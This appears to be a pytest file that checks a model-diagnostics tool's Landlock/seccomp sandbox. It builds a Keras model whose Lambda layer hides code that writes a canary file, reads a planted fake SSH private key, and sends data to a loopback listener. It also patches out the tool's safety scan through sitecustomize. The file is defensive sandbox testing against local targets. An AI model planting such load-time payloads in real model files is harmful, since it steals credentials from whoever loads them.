"""The sandbox contains what the scan lets through: real payloads against canary files, a planted
secret and a listening socket, with the scan switched off so that only the operating system stands
between the payload and the machine (docs/security.md, "The sandbox").

Every payload also runs once with ``--no-sandbox``: the same file then really writes the canary,
reads the secret and connects, so a sandbox test that passes is not a payload that never ran.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import textwrap
import threading
from pathlib import Path

import numpy as np
import pytest

from tests.conftest import run_diagnose
from tests.security import hostile

# Started in every Python process of a test run (the CLI, its workers, Ray actors and their workers)
# through PYTHONPATH: the config walk and the code refusal of the pre-scan become no-ops, so a gadget
# the allowlist would refuse reaches Keras. The structural checks (sizes, archive layout) stay.
SCAN_OFF = textwrap.dedent("""
    import diagnostics.safety as safety

    class _NoWalk:
        declared_params = 0

    safety._walk_config = lambda *args, **kwargs: _NoWalk()
    safety.require_safe = lambda *args, **kwargs: None
""")

# What a model's code would try, reported through the one place a confined worker may write: its run's
# staging folder, whose artifacts/ become the report's.
PROBE = textwrap.dedent("""
    def probe(x):
        import json, os, socket
        out = dict()
        try:
            with open({canary!r}, "w") as fh:
                fh.write("written by a model")
            out["write"] = "ok"
        except Exception as e:
            out["write"] = "denied: " + type(e).__name__
        try:
            with open({secret!r}) as fh:
                out["read"] = "ok: " + fh.read().strip()
        except Exception as e:
            out["read"] = "denied: " + type(e).__name__
        try:
            s = socket.create_connection(("127.0.0.1", {port}), timeout=10)
            s.sendall(b"a model was here")
            s.close()
            out["connect"] = "ok"
        except Exception as e:
            out["connect"] = "denied: " + type(e).__name__
        try:
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            u.sendto(b"a model was here", ("127.0.0.1", {port}))
            out["udp"] = "ok"
        except Exception as e:
            out["udp"] = "denied: " + type(e).__name__
        import glob
        # the folders whose files become the report's: the local run's staging folder (found by listing the
        # output folder, or beside TMPDIR when the worker may not list it), or a Ray job's artifact folders
        tmp = os.path.dirname(os.environ.get("TMPDIR", ""))
        found = [os.path.join(p, "artifacts") for p in glob.glob(os.path.join({out!r}, ".staging-*"))]
        found += [os.path.join(tmp, "artifacts")] if ".staging-" in tmp else glob.glob(os.path.join(tmp, "jobs", "*"))
        for folder in found:
            try:
                os.makedirs(folder, exist_ok=True)
                with open(os.path.join(folder, "sandbox-probe.json"), "w") as fh:
                    json.dump(out, fh)
            except OSError:
                pass
        return x
""")


class Listener:
    """A TCP server on loopback that records every connection (the payload's would-be exfiltration)."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.connections: list[bytes] = []
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            conn.settimeout(5)
            try:
                self.connections.append(conn.recv(100))
            except OSError:
                self.connections.append(b"")
            conn.close()

    def close(self):
        self.sock.close()


@pytest.fixture
def world(tmp_path):
    """A planted secret outside the run's folders, a canary path, a listener and the scan switched off."""
    secret = tmp_path / "home" / ".ssh" / "id_rsa"
    secret.parent.mkdir(parents=True)
    token = os.urandom(12).hex()
    secret.write_text(f"PRIVATE KEY {token}\n")
    (tmp_path / "outside").mkdir()
    site = tmp_path / "scan_off"
    site.mkdir()
    (site / "sitecustomize.py").write_text(SCAN_OFF)
    listener = Listener()
    x = np.random.default_rng(0).normal(size=(32, 4)).astype("float32")
    y = (x[:, 0] > 0).astype("int64")
    np.savez(tmp_path / "data.npz", x_train=x[:16], y_train=y[:16], x_val=x[16:], y_val=y[16:])
    env = {"PYTHONPATH": os.pathsep.join(p for p in (str(site), os.environ.get("PYTHONPATH", "")) if p)}
    yield {"secret": secret, "token": token, "canary": tmp_path / "outside" / "canary.txt", "listener": listener,
           "env": env, "dir": tmp_path, "out": tmp_path / "out", "data": tmp_path / "data.npz"}
    listener.close()


def lambda_payload(plain_keras: Path, out: Path, world) -> Path:
    """plain.keras with a Lambda layer whose (marshalled) function is :data:`PROBE`: code stored in the
    file, which Keras runs while it rebuilds the model."""
    import keras
    from keras.src.utils.python_utils import func_dump

    namespace: dict = {}
    exec(PROBE.format(canary=str(world["canary"]), secret=str(world["secret"]), port=world["listener"].port,
                      out=str(world["out"])), namespace)
    code, defaults, closure = func_dump(namespace["probe"])
    layer = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None, "name": "probe",
             "config": {"name": "probe", "trainable": True, "dtype": "float32",
                        "function": {"class_name": "__lambda__", "config": {"code": code, "defaults": defaults,
                                                                            "closure": closure}},
                        "arguments": {}},
             "inbound_nodes": [{"args": [{"class_name": "__keras_tensor__", "config": {
                 "shape": [None, 4], "dtype": "float32", "keras_history": ["x", 0, 0]}}], "kwargs": {}}]}

    def insert(config):  # x -> probe -> dense: every forward pass calls it, in a job as at load time
        layers = config["config"]["layers"]
        dense = next(l for l in layers if l["name"] == "dense")
        dense["inbound_nodes"][0]["args"][0]["config"]["keras_history"] = ["probe", 0, 0]
        layers.insert(layers.index(dense), layer)
        return config

    assert keras.__version__  # the fixture that built plain.keras imported keras under TensorFlow
    return hostile.edit_config(plain_keras, out, insert)


def probe_report(world, proc) -> dict:
    found = sorted((world["out"] / "artifacts").rglob("sandbox-probe.json"))
    assert proc.returncode in (0, 1) and found, f"the payload did not run (no report of it): {proc.stderr[-2000:]}"
    return json.loads(found[0].read_text())


def run(model: Path, world, *args: str) -> subprocess.CompletedProcess:
    """diagnose with one analyzer that runs the model on data (in a job, so that a Ray job's artifacts carry
    the payload's report back)."""
    return run_diagnose(model, "--only", "health.gradients", "--data", world["data"], "--trust", "-q", "--out", world["out"],
                        *args, env=world["env"], timeout=300)


@pytest.mark.parametrize("executor", ["local", "ray"])
def test_a_trusted_lambda_can_write_read_and_connect_nothing(plain, world, executor, request):
    args = ["--executor", "ray", "--ray-address", request.getfixturevalue("ray_address")] if executor == "ray" else []
    model = lambda_payload(plain["keras"], world["dir"] / "probe.keras", world)
    proc = run(model, world, *args)
    seen = probe_report(world, proc)
    assert seen == {"write": "denied: PermissionError", "read": "denied: PermissionError",
                    "connect": "denied: PermissionError", "udp": "denied: PermissionError"}, seen
    assert not world["canary"].exists() and world["listener"].connections == []
    assert world["token"] not in proc.stderr + proc.stdout + (world["out"] / "report.json").read_text()


def test_the_same_lambda_does_all_of_it_without_the_sandbox(plain, world):
    """The control: the payload is real, so the test above is the sandbox at work."""
    model = lambda_payload(plain["keras"], world["dir"] / "probe.keras", world)
    proc = run(model, world, "--no-sandbox")
    seen = probe_report(world, proc)
    assert seen == {"write": "ok", "read": f"ok: PRIVATE KEY {world['token']}", "connect": "ok", "udp": "ok"}, seen
    assert world["canary"].read_text() == "written by a model"
    assert b"a model was here" in world["listener"].connections


@pytest.mark.parametrize("executor", ["local", "ray"])
def test_a_switch_gadget_the_scan_missed_writes_nothing(plain, world, executor, request):
    args = ["--executor", "ray", "--ray-address", request.getfixturevalue("ray_address")] if executor == "ray" else []
    canary = world["dir"] / "outside" / "gallery.png"
    model = hostile.with_layer(plain["keras"], world["dir"] / "gallery.keras", hostile.plot_gallery_gadget(canary))
    proc = run(model, world, *args)
    assert not canary.exists(), proc.stderr
    assert proc.returncode == 4 and "PermissionError" in proc.stderr, proc.stderr
    control = run(model, world, "--no-sandbox")
    assert canary.exists(), f"the gadget did not write without the sandbox either: {control.stderr}"


def test_the_report_records_the_sandbox(tiny, tmp_path):
    proc = run_diagnose(tiny["keras"], "--only", "architecture", "-q", "--out", tmp_path / "on")
    assert proc.returncode == 0, proc.stderr
    on = json.loads((tmp_path / "on" / "report.json").read_text())["environment"]["sandbox"]
    assert set(on) == {"tensorflow"} and on["tensorflow"].startswith("on: files landlock ABI "), on
    assert "seccomp: no sockets" in on["tensorflow"]
    proc = run_diagnose(tiny["keras"], "--only", "architecture", "-q", "--no-sandbox", "--out", tmp_path / "off")
    assert proc.returncode == 0, proc.stderr
    off = json.loads((tmp_path / "off" / "report.json").read_text())["environment"]["sandbox"]
    assert off == {"tensorflow": "off (--no-sandbox): model code ran unconfined"}


def test_a_kernel_without_confinement_is_refused_in_one_line(tiny, tmp_path, monkeypatch):
    import diagnostics._sandbox
    from diagnostics._exitcodes import ExitCode
    from diagnostics._runner import RunConfig, run_file

    monkeypatch.setattr(diagnostics._sandbox, "unavailable_reason", lambda: "the kernel offers no Landlock")
    outcome = run_file(RunConfig(model_path=str(tiny["keras"]), out_dir=tmp_path / "o", only=("architecture",)))
    assert outcome.exit_code == ExitCode.USAGE
    assert outcome.message == ("the kernel offers no Landlock, so the worker processes cannot be confined: diagnose "
                               "only files you trust, with --no-sandbox")
    assert not (tmp_path / "o" / "report.json").exists()


# -- the mechanism, without Keras -------------------------------------------------------------------
CONFINED = textwrap.dedent("""
    import json, os, socket, sys
    from diagnostics._sandbox import Policy, confine
    allowed, scratch, outside, secret = sys.argv[1:5]
    applied = confine(Policy(write=(allowed,), scratch=scratch))
    seen = {}
    def attempt(name, f):
        try:
            f()
            seen[name] = "ok"
        except OSError as e:
            seen[name] = type(e).__name__
    attempt("write allowed", lambda: open(os.path.join(allowed, "ok"), "w").write("x"))
    attempt("write outside", lambda: open(outside, "w").write("x"))
    attempt("read secret", lambda: open(secret).read())
    attempt("tcp", lambda: socket.create_connection(("127.0.0.1", 9), timeout=2))
    attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
    attempt("unix datagram pair", lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM))
    attempt("unix stream pair", lambda: socket.socketpair())
    attempt("signal the parent", lambda: os.kill(os.getppid(), 0))
    import tempfile
    attempt("tempfile", lambda: tempfile.TemporaryFile().close())
    seen["tmpdir"] = tempfile.gettempdir()
    print(json.dumps({"applied": applied, "seen": seen}))
""")


def test_confine_allows_only_the_policy(tmp_path):
    allowed, scratch = tmp_path / "allowed", tmp_path / "allowed" / ".scratch"
    allowed.mkdir()
    secret = tmp_path / "secret.txt"
    secret.write_text("s3cret")
    proc = subprocess.run([sys.executable, "-c", CONFINED, str(allowed), str(scratch), str(tmp_path / "canary"), str(secret)],
                          capture_output=True, text=True, timeout=120, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    out = json.loads(proc.stdout)
    assert out["seen"] == {"write allowed": "ok", "write outside": "PermissionError", "read secret": "PermissionError",
                           "tcp": "PermissionError", "udp": "PermissionError", "unix datagram pair": "PermissionError",
                           "unix stream pair": "ok", "signal the parent": "PermissionError", "tempfile": "ok",
                           "tmpdir": str(scratch)}
    assert not (tmp_path / "canary").exists()
    assert out["applied"]["filesystem"].startswith("landlock ABI ")
